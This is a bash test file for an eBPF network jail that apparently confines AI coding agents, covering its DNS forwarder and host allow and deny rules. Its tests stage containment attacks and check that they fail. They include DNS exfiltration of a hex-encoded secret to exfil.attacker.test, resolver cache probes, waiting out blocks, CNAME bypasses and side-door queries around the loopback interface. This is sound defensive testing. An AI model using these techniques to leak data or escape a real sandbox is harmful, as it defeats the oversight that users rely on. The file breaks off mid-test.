#!/usr/bin/env bash
# test_dns.sh - the jail's own DNS forwarder, allow-host and internet = off,
# against a real resolver (dnsmasq) in the simulated LAN (netsim.sh,
# _resolver) and a real client (dig) in the jail

# ask NAME [dig options]: the jail's resolv.conf names the forwarder only
DIG='dig +short +tries=1 +time=3'

# What a denied connect says: EPERM from the socket hooks; the rootless
# engine refuses TCP with an ICMP error instead (expect_denied says why).
denied_re() { if rootless; then echo '(EPERM|EHOSTUNREACH)'; else echo EPERM; fi; }

test_forwarder_answers_udp_and_tcp_and_aaaa_is_empty() {
	netsim_up
	jail -- sh -c "$DIG web.example.test; echo tcp; $DIG +tcp web.example.test; echo aaaa;
		$DIG AAAA web.example.test; echo end"
	expect_rc 0
	[ "$(sed -n 1p "$T/out")" = 198.51.100.7 ] || fail "UDP: $(cat "$T/out" "$T/err")"
	[ "$(sed -n '/^tcp$/{n;p}' "$T/out")" = 198.51.100.7 ] || fail "TCP: $(cat "$T/out")"
	[ "$(sed -n '/^aaaa$/{n;p}' "$T/out")" = end ] || fail "AAAA not empty: $(cat "$T/out")"
	resolver_saw web.example.test || fail "the host's resolver saw no query"
	# AAAA is answered by the forwarder itself: the resolver never hears it.
	! grep -q 'query\[AAAA\]' "$T/dns.log" || fail "an AAAA query reached the resolver"
	# The resolver itself stays out of reach.
	jail -- "$T/probe" udp:10.23.0.54:53 tcp:10.23.0.54:53
	expect_denied udp:10.23.0.54:53
	expect_denied tcp:10.23.0.54:53
	expect_no_leftovers
}

test_allow_host_opens_a_blocked_address_only_after_its_answer() {
	netsim_up
	mkdir "$T/agent" && chown 4242 "$T/agent"
	# Before any query: the forge (a LAN address) is denied. After the
	# answer: every port, TCP and UDP. A name not allowed resolves, and
	# its address stays judged as before.
	jail --allow-host forge.lan.test -- sh -c "\"$T/probe\" tcp:10.23.0.80:22;
		$DIG forge.lan.test >\"$T/agent/dig\"; \"$T/probe\" tcp:10.23.0.80:22 tcp:10.23.0.80:80 \
		udp:10.23.0.80:5000; $DIG short.lan.test >>\"$T/agent/dig\"; \"$T/probe\" tcp:10.23.0.81:80"
	expect_rc 0
	grep -qE "^tcp:10.23.0.80:22 $(denied_re)" "$T/out" || fail "connected before the answer: $(cat "$T/out")"
	grep -q '^tcp:10.23.0.80:22 ok' "$T/out" || fail "not allowed after the answer: $(cat "$T/out" "$T/err")"
	expect_result tcp:10.23.0.80:80 ok
	expect_result udp:10.23.0.80:5000 ok
	expect_denied tcp:10.23.0.81:80
	grep -qx 10.23.0.80 "$T/agent/dig" || fail "no answer: $(cat "$T/agent/dig")"
	grep -qx 10.23.0.81 "$T/agent/dig" || fail "a name not allowed did not resolve"
	[ "$(hit_count forge-ssh 1)" -ge 1 ] || fail "the forge saw nothing"
	expect_no_hit short-web
	# The insertion is a dns record.
	grep -q '"dns": "forge.lan.test", "addrs": \["10.23.0.80"\], "port": null, "ttl": 3600}' \
		"$T/audit.jsonl" || fail "no dns record: $(grep dns "$T/audit.jsonl")"
	expect_no_leftovers
}

test_allow_host_with_a_port_and_a_wildcard() {
	netsim_up
	# A wildcard's names are the agent's to pick, and its zone anyone's:
	# it opens the internet that internet = off closed, never the LAN.
	jail --internet off --allow-host forge.lan.test:22 --allow-host '*.wild.lan.test' \
		--allow-host '*.wild.example.test' -- sh -c "
		$DIG forge.lan.test >/dev/null; $DIG a.b.wild.lan.test >/dev/null
		$DIG wild.example.test >/dev/null
		\"$T/probe\" tcp:198.51.100.7:80; $DIG x.wild.example.test >/dev/null
		\"$T/probe\" tcp:10.23.0.80:22 tcp:10.23.0.80:80 tcp:10.23.0.82:80 tcp:198.51.100.7:80"
	expect_rc 0
	expect_result tcp:10.23.0.80:22 ok
	expect_denied tcp:10.23.0.80:80
	expect_denied tcp:10.23.0.82:80
	expect_no_hit wild-web
	grep -qE "^tcp:198.51.100.7:80 $(denied_re)" "$T/out" || fail "the apex opened it: $(cat "$T/out")"
	grep -q '^tcp:198.51.100.7:80 ok' "$T/out" || fail "the wildcard did not open it: $(cat "$T/out" "$T/err")"
	grep -q '"dns": "x.wild.example.test"' "$T/audit.jsonl" || fail "wildcard not recorded"
	! grep -q '"dns": "wild.example.test"' "$T/audit.jsonl" || fail "the wildcard's apex was allowed"
	grep -q '"dns": "a.b.wild.lan.test", "addrs": \[\], "refused": \["10.23.0.82"\]' "$T/audit.jsonl" ||
		fail "the LAN wildcard's refusal is not recorded: $(grep dns "$T/audit.jsonl")"
	expect_no_leftovers
}

test_allow_host_never_opens_metadata() {
	netsim_up
	jail --allow-host meta.lan.test -- sh -c "$DIG meta.lan.test; \"$T/probe\" tcp:169.254.169.254:80"
	expect_rc 0
	expect_out 169.254.169.254
	expect_denied tcp:169.254.169.254:80
	expect_no_hit metadata
	# The record says it was refused, not allowed.
	grep -q '"dns": "meta.lan.test", "addrs": \[\], "refused": \["169.254.169.254"\]' "$T/audit.jsonl" ||
		fail "no refusal recorded: $(grep dns "$T/audit.jsonl")"
	audit
	expect_out "dns meta.lan.test: allowed nothing, every port, for 3600 s; refused 169.254.169.254"
	expect_no_leftovers
}

test_expired_name_denies_new_connects_and_keeps_open_ones() {
	netsim_up
	# An echo server on short.lan.test (TTL 1 s: allowed for the
	# minimum, 5 s). A connection opened while allowed sends again after
	# the expiry and gets its echo (the TC program must not cut it); a
	# new connect then is EPERM.
	lan_echo 10.23.0.81 9000
	jail --allow-host short.lan.test -- bash -c "$DIG short.lan.test >/dev/null
		exec 3<>/dev/tcp/10.23.0.81/9000 && echo before >&3 && read -t 3 a <&3
		sleep 7
		echo after >&3 && read -t 5 b <&3
		echo \"echo:\$a:\$b\"
		\"$T/probe\" tcp:10.23.0.81:80"
	expect_rc 0
	expect_out "echo:before:after"
	expect_denied tcp:10.23.0.81:80
	expect_no_leftovers
}

test_internet_off_allows_only_what_is_allowed() {
	netsim_up
	jail --internet off --allow-host web.example.test:80 -- sh -c "
		\"$T/probe\" tcp:198.51.100.7:80 tcp:198.51.100.99:80; $DIG web.example.test >/dev/null;
		\"$T/probe\" tcp:198.51.100.7:80 udp:198.51.100.7:7"
	expect_rc 0
	grep -qE "^tcp:198.51.100.7:80 $(denied_re)" "$T/out" || fail "internet = off let it through: $(cat "$T/out")"
	grep -q '^tcp:198.51.100.7:80 ok' "$T/out" || fail "allow-host did not open it: $(cat "$T/out" "$T/err")"
	expect_denied tcp:198.51.100.99:80
	expect_denied udp:198.51.100.7:7
	expect_no_hit inet-neighbour
	grep -q '"daddr": "198.51.100.99", "dport": 80, "hook": "'"$HOOK4"'", "reason": "internet", "rule": "0.0.0.0/0"' \
		"$T/audit.jsonl" || fail "no internet denial: $(cat "$T/audit.jsonl")"
	expect_no_leftovers
}

# The attack: with internet = off, 32 bytes of a secret as query labels
# (hex, two labels) through the jail's own forwarder, as TXT, A and AAAA,
# and CH-class and RD=0 queries that read the resolver's own state. Every
# query the host's resolver hears it carries on to the name's server: the
# resolver's log is where the secret would leave. Controls in the same
# test: the allowed name is asked and answered, and the same exfiltration
# with internet = on reaches the resolver.
test_internet_off_never_carries_a_name_out() {
	netsim_up
	mkdir "$T/agent" && chown 4242 "$T/agent"
	local s1=5345435245542d4b45593a2073757065 s2=722d7365637265742d76616c75652121 q job i
	q='dig +tries=1 +time=3'
	cat >"$T/agent.sh" <<-EOF
		$q TXT $s1.$s2.exfil.attacker.test; $q $s1.$s2.exfil.attacker.test
		$q AAAA a.exfil.attacker.test; $q CH TXT version.bind
		$q +norecurse web.example.test; $q web.example.test
		touch $T/agent/asked
		for i in \$(seq 1 100); do [ -e $T/agent/end ] && break; sleep 0.05; done
	EOF
	jail_cmd --internet off --allow-host web.example.test -- sh "$T/agent.sh" \
		>"$T/jail.out" 2>"$T/jail.err" &
	job=$!
	for i in $(seq 1 100); do [ -e "$T/agent/asked" ] && break; sleep 0.05; done
	run_until '"dns": 5' as_user "$EBPFJAIL" status --json # written once a second
	touch "$T/agent/end"
	wait "$job" || fail "the jail failed: $(cat "$T/jail.err")"
	[ "$(grep -c 'status: REFUSED' "$T/jail.out")" -eq 5 ] ||
		fail "not refused: $(grep -E 'status:' "$T/jail.out")"
	grep -qE '^web.example.test.*198.51.100.7$' "$T/jail.out" ||
		fail "the allowed name: $(cat "$T/jail.out")"
	resolver_saw web.example.test || fail "the allowed name never reached the resolver"
	! grep -qE 'attacker|version.bind' "$T/dns.log" ||
		fail "a name left: $(grep -E 'attacker|version' "$T/dns.log")"
	# One record per kind (type, reason, registered domain), the full name
	# in it; the agent's process is not the forwarder's to know.
	grep -qF '"pid": null, "comm": null, "uid": null, "proto": "dns", "name": "'"$s1.$s2"'.exfil.attacker.test", "qtype": "TXT", "hook": "dns", "reason": "dns", "rule": "internet-off"}' \
		"$T/audit.jsonl" || fail "no dns denial: $(grep '"proto": "dns"' "$T/audit.jsonl")"
	grep -qF '"name": "version.bind", "qtype": "TXT", "hook": "dns", "reason": "dns", "rule": "class"' \
		"$T/audit.jsonl" || fail "no class denial: $(grep '"proto": "dns"' "$T/audit.jsonl")"
	grep -qF '"name": "web.example.test", "qtype": "A", "hook": "dns", "reason": "dns", "rule": "no-recursion"' \
		"$T/audit.jsonl" || fail "no RD denial: $(grep '"proto": "dns"' "$T/audit.jsonl")"
	expect_out '"dns": 5'
	grep -qF "ebpfjail: refused 5 DNS queries (first: $s1.$s2.exfil.attacker.test)" "$T/jail.err" ||
		fail "exit summary: $(cat "$T/jail.err")"
	audit
	expect_out "dns    $s1.$s2.exfil.attacker.test TXT  dns           dns         internet-off"
	# The agent's names are never proposed: their DNS would decide.
	audit --suggest
	expect_out "# not suggested: 3 DNS queries for names outside your network's domains (first: $s1.$s2.exfil.attacker.test)"
	! grep -q '^allow-host' "$T/out" || fail "suggested the agent's own name: $(cat "$T/out")"
	# The control: internet = on asks the resolver for the same.
	jail -- sh -c "$q TXT $s1.$s2.exfil.attacker.test >/dev/null"
	resolver_saw "$s1.$s2.exfil.attacker.test" || fail "the control query never reached the resolver"
	expect_no_leftovers
}

# A profile, the tree's own (build/profiles, found beside the binary):
# with internet = off its names open their ports and nothing else; a name
# of it that answers a LAN address opens nothing (internet-only strength:
# a poisoned or split-horizon answer must not open the LAN); a name it
# lacks is refused. `config` shows the lines with the profile's file:line.
test_a_profile_opens_its_names_on_their_ports_and_never_the_lan() {
	netsim_up
	printf '198.51.100.7 api.anthropic.com\n10.23.0.80 statsig.com\n' | resolver_hosts
	_serve "$INET" tcp 198.51.100.7 443 inet-https
	_wait_listening "$INET"
	jail --internet off --profile claude-code -- sh -c "\"$T/probe\" dnsconnect:api.anthropic.com:443 \
		dnsconnect:api.anthropic.com:80 dnsconnect:statsig.com:443 dnsconnect:web.example.test:80"
	expect_rc 0
	expect_result dnsconnect:api.anthropic.com:443 ok
	expect_denied dnsconnect:api.anthropic.com:80 EHOSTUNREACH
	expect_denied dnsconnect:statsig.com:443 EHOSTUNREACH
	[ "$(hit_count inet-https 1)" -eq 1 ] || fail "the API saw nothing"
	expect_no_hit inet-web
	! resolver_saw web.example.test || fail "a name the profile lacks was asked"
	grep -q '"dns": "statsig.com", "addrs": \[\], "refused": \["10.23.0.80"\]' "$T/audit.jsonl" ||
		fail "the LAN answer was not refused: $(grep statsig "$T/audit.jsonl")"
	# The profiles beside the binary: the tree's build, or the copy
	# user_binary made where uid 4242 can reach it (a tree in root's home)
	local profiles
	profiles=$(dirname "$EBPFJAIL")/profiles
	run "$EBPFJAIL" config --config "$T/jail.conf" --profile claude-code
	expect_rc 0
	grep -qE "^# allow-host = api.anthropic.com:443 +# $profiles/claude-code.conf:[0-9]+$" "$T/out" ||
		fail "config: $(cat "$T/out" "$T/err")"
	expect_out "profile = claude-code"
	run "$EBPFJAIL" config --config "$T/jail.conf" --profile no-such
	expect_rc 1
	grep -qF "profile no-such: no such profile ($profiles/no-such.conf)" "$T/err" ||
		fail "no error for a missing profile: $(cat "$T/err")"
	expect_no_leftovers
}

# deny-host with the internet open: the name is refused, and the address
# its answer gives (the forwarder asks for it itself) is blocked, so the
# agent cannot reach it by another name that shares it (an allow-host
# name, a CDN) nor by the address it knew; allow-ip wins. The controls:
# the same address is reached before the deny learned it, and with an
# allow-ip for it after.
test_deny_host_refuses_the_name_and_blocks_its_address() {
	netsim_up
	mkdir "$T/agent" && chown 4242 "$T/agent"
	echo "198.51.100.7 www.paste.test" | resolver_hosts
	local job i
	for allow in "" "--allow-ip 198.51.100.7"; do
		rm -f "$T/agent/asked" "$T/agent/go"
		cat >"$T/agent.sh" <<-EOF
			$T/probe tcp:198.51.100.7:80 >$T/agent/before
			dig +tries=1 +time=3 www.paste.test >$T/agent/dig
			touch $T/agent/asked
			for i in \$(seq 1 100); do [ -e $T/agent/go ] && break; sleep 0.05; done
			$T/probe tcp:198.51.100.7:80 dnsconnect:web.example.test:80
		EOF
		jail_cmd --deny-host '*.paste.test' --allow-host web.example.test $allow -- \
			sh "$T/agent.sh" >"$T/jail.out" 2>"$T/jail.err" &
		job=$!
		for i in $(seq 1 100); do
			grep -q '"policy": "deny-host", "change": "www.paste.test blocked for 3600 s: 198.51.100.7"' \
				"$T/audit.jsonl" 2>/dev/null && break
			sleep 0.05
		done
		touch "$T/agent/go"
		wait "$job" || fail "the jail failed: $(cat "$T/jail.err")"
		grep -q '^tcp:198.51.100.7:80 ok' "$T/agent/before" || fail "the control: $(cat "$T/agent/before")"
		grep -q 'status: REFUSED' "$T/agent/dig" || fail "not refused: $(cat "$T/agent/dig")"
		resolver_saw www.paste.test || fail "the forwarder never asked for the denied name's address"
		grep -q '"policy": "deny-host"' "$T/audit.jsonl" || fail "no deny-host record: $(cat "$T/audit.jsonl")"
		cp "$T/jail.out" "$T/out"
		if [ -z "$allow" ]; then
			expect_denied tcp:198.51.100.7:80
			expect_denied dnsconnect:web.example.test:80 EHOSTUNREACH
			# The record says why: the deny-host block, not a block-cidr.
			grep -q '"daddr": "198.51.100.7", "dport": 80, .*"reason": "deny-host", "rule": "198.51.100.7/32"' \
				"$T/audit.jsonl" || fail "no deny-host denial: $(grep '198.51.100.7' "$T/audit.jsonl")"
		else
			expect_result tcp:198.51.100.7:80 ok
			expect_result dnsconnect:web.example.test:80 ok
		fi
	done
	grep -qF '"name": "www.paste.test", "qtype": "A", "hook": "dns", "reason": "dns", "rule": "deny-host"' \
		"$T/audit.jsonl" || fail "no dns denial: $(grep '"proto": "dns"' "$T/audit.jsonl")"
	expect_no_leftovers
}

# The attack on a deny-host block's TTL: the agent asks the denied name
# (short.lan.test, TTL 1 s: its address blocked for 5 s), waits the block
# out, and reaches the same address through an allowed name that shares
# it (twin.lan.test, as a CDN's names do). The forwarder asks the denied
# name again before each block ends, so the block lasts while the name
# still answers the address. The controls: the twin reaches the address
# before the deny learned it, and an allowed name with an address of its
# own still reaches it after the wait.
test_a_deny_host_block_cannot_be_waited_out() {
	netsim_up
	mkdir "$T/agent" && chown 4242 "$T/agent"
	echo "10.23.0.81 twin.lan.test" | resolver_hosts
	jail --deny-host short.lan.test --allow-host twin.lan.test --allow-host forge.lan.test -- sh -c "
		\"$T/probe\" dnsconnect:twin.lan.test:80 >$T/agent/before
		$DIG short.lan.test >$T/agent/dig
		sleep 9
		\"$T/probe\" dnsconnect:twin.lan.test:80 dnsconnect:forge.lan.test:80"
	expect_rc 0
	grep -q '^dnsconnect:twin.lan.test:80 ok' "$T/agent/before" ||
		fail "the control: $(cat "$T/agent/before")"
	[ ! -s "$T/agent/dig" ] || fail "the denied name resolved: $(cat "$T/agent/dig")"
	expect_denied dnsconnect:twin.lan.test:80 EHOSTUNREACH
	expect_result dnsconnect:forge.lan.test:80 ok
	# The agent asked once; the forwarder asked again for each renewal.
	[ "$(grep -c 'query\[A\] short.lan.test from' "$T/dns.log")" -ge 3 ] ||
		fail "short.lan.test asked again too rarely: $(grep short.lan.test "$T/dns.log")"
	grep -q '"daddr": "10.23.0.81", "dport": 80, .*"reason": "deny-host"' "$T/audit.jsonl" ||
		fail "no deny-host denial: $(grep 10.23.0.81 "$T/audit.jsonl")"
	expect_no_leftovers
}

# The attack on deny-host: an allowed name of the agent's choosing as a
# CNAME of the denied one (alias.lan.test -> forge.lan.test). The answer's
# chain reaches the denied name: its addresses are blocked before the
# answer is released, never allowed. The control: without the deny the
# same alias opens the forge.
test_a_cname_to_a_denied_name_opens_nothing() {
	netsim_up
	local deny
	for deny in "" "--deny-host forge.lan.test"; do
		jail --allow-host alias.lan.test $deny -- sh -c \
			"$DIG alias.lan.test >/dev/null; \"$T/probe\" tcp:10.23.0.80:22"
		expect_rc 0
		if [ -z "$deny" ]; then
			expect_result tcp:10.23.0.80:22 ok
		else
			expect_denied tcp:10.23.0.80:22
		fi
	done
	grep -q '"policy": "deny-host", "change": "alias.lan.test blocked for 5 s: 10.23.0.80"' \
		"$T/audit.jsonl" || fail "no deny-host record: $(grep policy "$T/audit.jsonl")"
	expect_no_leftovers
}

# Both engines: internet = off leaves allow-ip and DNS (for the names
# allowed: the only ones it answers).
test_internet_off_leaves_allow_ip_and_dns() {
	netsim_up
	jail --internet off --allow-ip 198.51.100.7:80 --allow-host web.example.test:443 -- sh -c "
		\"$T/probe\" tcp:198.51.100.7:80 tcp:198.51.100.99:80; $DIG web.example.test"
	expect_rc 0
	expect_result tcp:198.51.100.7:80 ok
	expect_denied tcp:198.51.100.99:80
	expect_out 198.51.100.7
	grep -q '"daddr": "198.51.100.99", "dport": 80, "hook": "'"$HOOK4"'", "reason": "internet"' \
		"$T/audit.jsonl" || fail "no internet denial: $(cat "$T/audit.jsonl")"
	expect_no_leftovers
}


# A name that moves: the new address is allowed once an answer gives it;
# the old one stays for its TTL (1 s, so the minimum: 5 s), then goes,
# while the new one, asked again, stays.
test_a_name_that_moves_is_followed() {
	netsim_up
	mkdir "$T/agent" && chown 4242 "$T/agent"
	jail_cmd --allow-host moving.lan.test -- sh -c "
		$DIG moving.lan.test; \"$T/probe\" tcp:10.23.0.83:80 tcp:10.23.0.84:80
		touch \"$T/agent/asked\"
		for i in \$(seq 1 100); do [ -e \"$T/agent/moved\" ] && break; sleep 0.05; done
		$DIG moving.lan.test; \"$T/probe\" tcp:10.23.0.84:80 tcp:10.23.0.83:80
		sleep 7; $DIG moving.lan.test >/dev/null
		\"$T/probe\" tcp:10.23.0.83:80 tcp:10.23.0.84:80" >"$T/out" 2>"$T/err" &
	local job=$! i
	for i in $(seq 1 100); do [ -e "$T/agent/asked" ] && break; sleep 0.05; done
	# status lists what is allowed by name, while it is (the status
	# file is written once a second).
	for i in $(seq 1 40); do
		as_user "$EBPFJAIL" status >"$T/status" 2>&1 || fail "status: $(cat "$T/status")"
		grep -q '^ *by name: moving.lan.test 10.23.0.83$' "$T/status" && break
		sleep 0.05
	done
	grep -q '^ *by name: moving.lan.test 10.23.0.83$' "$T/status" || fail "status: $(cat "$T/status")"
	resolver_move 10.23.0.84
	touch "$T/agent/moved"
	wait "$job" || fail "the jail failed: $(cat "$T/err")"
	# Each probe line in order: 83 ok, 84 EPERM; 84 ok, 83 ok; 83 EPERM, 84 ok.
	[ "$(grep -E '^tcp:10\.23\.0\.8[34]:80 ' "$T/out" | sed 's/ EHOSTUNREACH / EPERM /' |
		awk '{ printf "%s %s;", $1, $2 }')" = \
		"tcp:10.23.0.83:80 ok;tcp:10.23.0.84:80 EPERM;tcp:10.23.0.84:80 ok;tcp:10.23.0.83:80 ok;tcp:10.23.0.83:80 EPERM;tcp:10.23.0.84:80 ok;" ] ||
		fail "not followed: $(cat "$T/out" "$T/err")"
	expect_no_leftovers
}

# Cilium's race (message_handler.go): answers for one name in flight at
# once must each be in the policy before they are released. 40 names of
# 24 addresses each (an answer that fits 512 bytes: the probe asks without
# EDNS, and Debian 13's dnsmasq answered 32 with no address at all, the
# probe's "noanswer", where Debian 12's gave those that fit); four agents ask for the same new name at the same
# moment, one name after another, each connecting to the answer's last
# address (the last one put in) the moment the answer is in: never EPERM.
# Nor a timeout: the TC program reads the trie connect4 read, so it drops
# none of their packets. Its positive control, in the same log: a SYN the
# socket hooks never see (a raw socket, root in the jail's namespace) to an
# address of the same LAN that no answer gave is dropped and is a record
# (tc; the rootless engine's output hook). A connect that fails all the
# same says where its SYN went: the jail, or the simulated LAN (its echo
# server's listen queue, lan_listen_drops).
test_concurrent_answers_are_never_released_before_their_addresses() {
	netsim_up
	anyip_lan
	awk 'BEGIN { for (i = 1; i <= 40; i++) for (k = 0; k < 24; k++) {
		x = (i - 1) * 24 + k; printf "10.23.%d.%d h-%d.hammer.lan.test\n", 16 + int(x / 200), x % 200 + 1, i } }' |
		resolver_hosts
	mkdir "$T/agent" && chown 4242 "$T/agent"
	cat >"$T/hammer.sh" <<HAMMER
for i in \$(seq 1 40); do "$T/probe" dnsconnect:h-\$i.hammer.lan.test:7; done
HAMMER
	# Exact names: a wildcard opens no private range.
	for i in $(seq 1 40); do echo "allow-host = h-$i.hammer.lan.test"; done >>"$T/jail.conf"
	jail_cmd -- sh -c "until [ -e $T/agent/go ]; do sleep 0.05; done
		for k in 1 2 3 4; do sh $T/hammer.sh >$T/agent/h.\$k & done; wait" >"$T/out" 2>"$T/err" &
	local job=$! hook=tc sent=sent ok drops others
	# The output hook refuses a local packet at once, as a connect.
	rootless && hook=output sent=EPERM
	nsenter -t "$(agent_pid)" -n -- "$T/probe" rawsyn:10.23.31.1:7 >"$T/raw.out"
	grep -q "^rawsyn:10.23.31.1:7 $sent " "$T/raw.out" || fail "probe: $(cat "$T/raw.out")"
	touch "$T/agent/go"
	wait "$job" || fail "the jail failed: $(cat "$T/err")"
	grep -q '"daddr": "10.23.31.1", .*"hook": "'$hook'"' "$T/audit.jsonl" ||
		fail "the raw SYN left no record: $(grep -v '"dns"' "$T/audit.jsonl")"
	cat "$T"/agent/h.* >"$T/all"
	ok=$(grep -c ' ok ' "$T/all" || true)
	others=$(grep '"reason"' "$T/audit.jsonl" | grep -vc '"daddr": "10.23.31.1"' || true)
	drops=$(lan_listen_drops)
	[ "$ok" -eq 160 ] && [ "$others" -eq 0 ] && [ "$drops" -eq 0 ] ||
		fail "$ok of 160 connects allowed; denials: $others; SYNs the LAN's echo server" \
			"dropped (listen queue full): $drops; not allowed: $(grep -v ' ok ' "$T/all" | head)"
	[ "$(grep -c '"dns": "h-[0-9]*.hammer.lan.test"' "$T/audit.jsonl")" -ge 40 ] || fail "insertions missing"
	expect_no_leftovers
}

# A denial of an address the forwarder answered for a name: its record
# names the host, `audit --suggest` proposes allow-host with the port, and
# the pasted line works (by name: the address may move).
test_suggest_proposes_allow_host_for_what_was_looked_up() {
	netsim_up
	jail -- "$T/probe" dnsconnect:forge.lan.test:22
	expect_rc 0
	expect_denied dnsconnect:forge.lan.test:22 EHOSTUNREACH
	grep -q '"daddr": "10.23.0.80", "dport": 22, .*"host": "forge.lan.test"' "$T/audit.jsonl" ||
		fail "no host in the denial: $(cat "$T/audit.jsonl")"
	audit --suggest
	expect_rc 0
	# forge.lan.test is under the host's search domains (lan.test): the
	# user's network's own name.
	expect_out "allow-host = forge.lan.test:22"
	grep '^allow-host' "$T/out" >>"$T/jail.conf"
	jail -- "$T/probe" dnsconnect:forge.lan.test:22 tcp:10.23.0.80:80
	expect_rc 0
	expect_result dnsconnect:forge.lan.test:22 ok
	expect_denied tcp:10.23.0.80:80
	audit
	expect_out "dns forge.lan.test: allowed 10.23.0.80, port 22, for 3600 s"
	expect_no_leftovers
}

# An answer too large for a datagram: over UDP without EDNS the resolver
# cuts it (TC), and the client asks again over TCP; the forwarder asks the
# resolver over TCP too, so the client gets all 32 addresses.
test_a_large_answer_comes_whole_over_tcp() {
	netsim_up
	awk 'BEGIN { for (k = 0; k < 32; k++) printf "10.23.16.%d big.lan.test\n", k + 1 }' |
		resolver_hosts
	jail -- sh -c 'dig +noedns +tries=1 +time=3 big.lan.test; echo ===;
		dig +noedns +tcp +short +tries=1 +time=3 big.lan.test'
	expect_rc 0
	# dig says so when the UDP answer was cut, and asks again over TCP.
	expect_out "Truncated, retrying in TCP mode"
	sed -n '1,/^===$/p' "$T/out" | grep -q 'ANSWER: 32,' || fail "dig's TCP retry: $(cat "$T/out")"
	[ "$(sed -n '/^===$/,$p' "$T/out" | grep -c '^10\.23\.16\.')" -eq 32 ] ||
		fail "not every address over TCP: $(cat "$T/out")"
	expect_no_leftovers
}

# _cut_by_name [RUN-OPTIONS] -- CHANGE...: in the simulated network
# (netsim_up first), an agent opens a connection by name to an echo server
# on forge.lan.test (10.23.0.80:9000) and sends through it three times: at
# once, after a pause (the control: the connection carries data after a
# wait), and after the user's CHANGE (a function that asserts it
# succeeded). The test holds if only the third echo never came back.
_cut_by_name() {
	local opts=() job i
	while [ "$1" != -- ]; do opts+=("$1"); shift; done
	shift
	lan_echo 10.23.0.80 9000
	mkdir "$T/agent" && chown 4242 "$T/agent"
	jail_cmd "${opts[@]}" -- bash -c "$DIG forge.lan.test >/dev/null
		exec 3<>/dev/tcp/10.23.0.80/9000 && echo before >&3 && read -t 3 a <&3
		touch $T/agent/open
		for i in \$(seq 1 100); do [ -e $T/agent/paused ] && break; sleep 0.05; done
		echo kept >&3; read -t 3 b <&3
		touch $T/agent/sent
		for i in \$(seq 1 100); do [ -e $T/agent/changed ] && break; sleep 0.05; done
		echo after >&3; read -t 3 c <&3
		echo \"echo:\$a:\$b:\$c\"" >"$T/jail.out" 2>"$T/jail.err" &
	job=$!
	for i in $(seq 1 100); do [ -e "$T/agent/open" ] && break; sleep 0.05; done
	[ -e "$T/agent/open" ] || fail "the connection did not open: $(cat "$T/jail.out" "$T/jail.err")"
	touch "$T/agent/paused"
	for i in $(seq 1 100); do [ -e "$T/agent/sent" ] && break; sleep 0.05; done
	"$@"
	touch "$T/agent/changed"
	wait "$job" || true
	grep -qx "echo:before:kept:" "$T/jail.out" ||
		fail "not cut by $* (or no 'kept': it carried nothing before):" \
			"$(cat "$T/jail.out" "$T/jail.err")"
	expect_no_leftovers
}

# `ebpfjail deny` cuts a connection opened by name too (kept flows are
# judged again): an agent must not go on sending through it after its
# user denied the address.
test_deny_cuts_a_connection_opened_by_name() {
	netsim_up
	_cut_by_name --allow-host forge.lan.test -- _deny_forge
}
_deny_forge() {
	run as_user "$EBPFJAIL" deny 10.23.0.80
	expect_rc 0
}

# A reload that takes away the only allow-host line cuts the connections
# opened by name too. The attack: the user removes the name and reloads,
# and the agent goes on sending through the connection it opened while the
# name was allowed (the reload renewed kept flows only when the new
# configuration had allow-host lines).
test_reload_without_the_name_cuts_a_connection_opened_by_name() {
	netsim_up
	echo "allow-host = forge.lan.test" >>"$T/jail.conf"
	_cut_by_name -- _reload_without_forge
}
_reload_without_forge() {
	sed -i '/^allow-host/d' "$T/jail.conf"
	run as_user "$EBPFJAIL" reload
	expect_rc 0
	expect_out "allow-host -forge.lan.test"
}

# A reload that leaves only a wildcard for a name closes its LAN address:
# a wildcard's names are the agent's to pick, so it never opens the LAN.
# The attack: the user deletes `allow-host = forge.lan.test` and keeps
# `*.lan.test`; the reload compiled the policy before it weakened the
# name, and the agent, asking again before the TTL ran out, kept
# forge.lan.test's LAN address open. The control: the exact line opened it
# before the reload.
test_reload_that_leaves_only_a_wildcard_closes_the_lan_address() {
	netsim_up
	mkdir "$T/agent" && chown 4242 "$T/agent"
	printf 'allow-host = *.lan.test\nallow-host = forge.lan.test\n' >>"$T/jail.conf"
	jail_cmd -- sh -c "$DIG forge.lan.test >/dev/null; \"$T/probe\" tcp:10.23.0.80:22
		touch $T/agent/open
		for i in \$(seq 1 100); do [ -e $T/agent/removed ] && break; sleep 0.05; done
		$DIG forge.lan.test >/dev/null; \"$T/probe\" tcp:10.23.0.80:80" >"$T/jail.out" 2>"$T/jail.err" &
	local job=$! i
	for i in $(seq 1 200); do [ -e "$T/agent/open" ] && break; sleep 0.05; done
	[ -e "$T/agent/open" ] || fail "the jail did not get as far as the reload: $(cat "$T/jail.out" "$T/jail.err")"
	sed -i '/^allow-host = forge.lan.test$/d' "$T/jail.conf"
	run as_user "$EBPFJAIL" reload
	expect_rc 0
	expect_out "allow-host -forge.lan.test"
	touch "$T/agent/removed"
	wait "$job" || true
	cp "$T/jail.out" "$T/out" && cp "$T/jail.err" "$T/err" # for expect_result
	expect_result tcp:10.23.0.80:22 ok
	expect_denied tcp:10.23.0.80:80
	expect_no_hit forge-web
	expect_no_leftovers
}

# A side door to the host's resolver. Any process may send around lo's
# local route, out of the tap, with no privilege: SO_BINDTODEVICE to the
# tap, IP_UNICAST_IF, or an IP_PKTINFO ifindex (three ways: blocking one
# option is not enough). The attack: a query to the forward address sent
# so reached pasta, whose own DNS forwarding (--dns-forward) handed it raw
# to the host's resolver: one way is enough for a DNS UPDATE that points
# an allowed name at a LAN host, and RD=0 queries read the resolver's
# cache. Now the tap drops any frame to the forward address (it is the
# forwarder's on lo only), and pasta's DNS forwarding sits on an address
# the policy blocks. The controls: the same sockets reach an internet echo
# server by the tap, and a query sent the usual way is answered.
test_a_query_sent_around_lo_never_reaches_the_hosts_resolver() {
	netsim_up
	# pasta's own DNS address, even where a line allows it: the user
	# pasted what a denial's summary proposed.
	echo "allow-ip = 240.0.0.53:53" >>"$T/jail.conf"
	jail -- sh -c 'for via in bind unicast pktinfo; do
			PROBE_VIA=$via "$0/probe" dns:side-$via.wild.lan.test:0 udp:198.51.100.7:7
		done; "$0/probe" dns:usual.wild.lan.test:0
		dig +tries=1 +time=1 @240.0.0.53 side-pasta.wild.lan.test >/dev/null 2>&1 || :' "$T"
	expect_rc 0
	expect_result dns:usual.wild.lan.test:0 10.23.0.82
	resolver_saw usual.wild.lan.test || fail "the control query did not reach the resolver"
	[ "$(grep -c '^udp:198.51.100.7:7 ok ' "$T/out")" -eq 3 ] ||
